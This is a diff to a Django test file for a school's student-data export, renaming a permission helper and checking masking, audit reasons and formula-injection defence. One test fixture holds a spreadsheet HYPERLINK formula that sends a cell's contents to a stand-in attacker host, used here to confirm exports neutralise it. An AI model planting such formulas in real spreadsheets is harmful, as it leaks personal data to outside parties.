@@ -60,7 +60,7 @@ def dibao_list(cast):
     )
 
 
-def may_reveal(user) -> User:
+def with_reveal_permission(user) -> User:
     user.user_permissions.add(Permission.objects.get(codename="reveal_sensitive"))
     return User.objects.get(pk=user.pk)  # a fresh object: Django caches permissions on the old one
 
@@ -159,7 +159,7 @@ class TestMaskedExport:
 
 class TestFullExport:
     def test_full_data_needs_the_permission_the_tick_and_a_reason(self, cast, client_for, pupil):
-        li = may_reveal(cast.li)
+        li = with_reveal_permission(cast.li)
         response = exports(li, class_url(cast.class_1), client_for, full_data="on", reason="县资助中心核对低保学生")
         texts = cell_texts(response)
         assert pupil.id_number in texts and "13812345678" in texts and "枫树村" in texts
@@ -169,11 +169,13 @@ class TestFullExport:
         assert event.reason == "县资助中心核对低保学生" and event.changes["export"] == [None, "full"]
 
     def test_with_the_permission_but_no_tick_the_export_is_masked(self, cast, client_for, pupil):
-        response = exports(may_reveal(cast.li), class_url(cast.class_1), client_for, reason="")
+        response = exports(with_reveal_permission(cast.li), class_url(cast.class_1), client_for, reason="")
         assert pupil.id_number not in raw_parts(response)
 
     def test_full_data_without_a_reason_is_refused_beside_the_field(self, cast, client_for, pupil):
-        response = exports(may_reveal(cast.li), class_url(cast.class_1), client_for, full_data="on", reason=" ")
+        response = exports(
+            with_reveal_permission(cast.li), class_url(cast.class_1), client_for, full_data="on", reason=" "
+        )
         assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
         assert "invalid-feedback" in response.content.decode()
         assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()
@@ -185,7 +187,10 @@ class TestFullExport:
 
     def test_the_tick_is_offered_only_with_the_permission(self, cast, client_for, pupil):
         assert 'name="full_data"' not in client_for(cast.li).get(class_url(cast.class_1)).content.decode()
-        assert 'name="full_data"' in client_for(may_reveal(cast.li)).get(class_url(cast.class_1)).content.decode()
+        assert (
+            'name="full_data"'
+            in client_for(with_reveal_permission(cast.li)).get(class_url(cast.class_1)).content.decode()
+        )
 
 
 class TestFormulaInjection:
@@ -193,7 +198,9 @@ class TestFormulaInjection:
         pupil.name = '=HYPERLINK("http://evil.example/?"&D4,"点击")'
         pupil.guardian_name = "@SUM(1+1)"
         pupil.save()
-        response = exports(may_reveal(cast.li), class_url(cast.class_1), client_for, full_data="on", reason="核对")
+        response = exports(
+            with_reveal_permission(cast.li), class_url(cast.class_1), client_for, full_data="on", reason="核对"
+        )
         assert "<f>" not in raw_parts(response)
         row = sheet_of(response)[4]
         cells = {cell.value: cell for cell in row}
@@ -209,7 +216,9 @@ class TestFormulaInjection:
             f"/students/{pupil.pk}/edit/", {"hukou": pupil.hukou, "guardian_name": formula, "guardian_relation": ""}
         )
         assert edited.status_code == 302
-        response = exports(may_reveal(cast.li), school_url(cast.school), client_for, full_data="on", reason="核对")
+        response = exports(
+            with_reveal_permission(cast.li), school_url(cast.school), client_for, full_data="on", reason="核对"
+        )
         assert "<f>" not in raw_parts(response)
         cell = next(cell for row in sheet_of(response).iter_rows() for cell in row if cell.value == formula)
         assert cell.data_type == "s" and cell.quotePrefix
@@ -266,7 +275,7 @@ class TestExportQueries:
         second_class = SchoolClassFactory(school=cast.school, school_year=cast.school_year, grade=22, number=1)
         for index in range(10):
             registered_student(cast, cast.class_1 if index % 2 else second_class, official_list=school_list)
-        client = client_for(may_reveal(cast.li))
+        client = client_for(with_reveal_permission(cast.li))
         self.count_queries(client, school_url(cast.school))  # the first request fills Django's own caches
         ten = self.count_queries(client, school_url(cast.school))
         for _index in range(30):
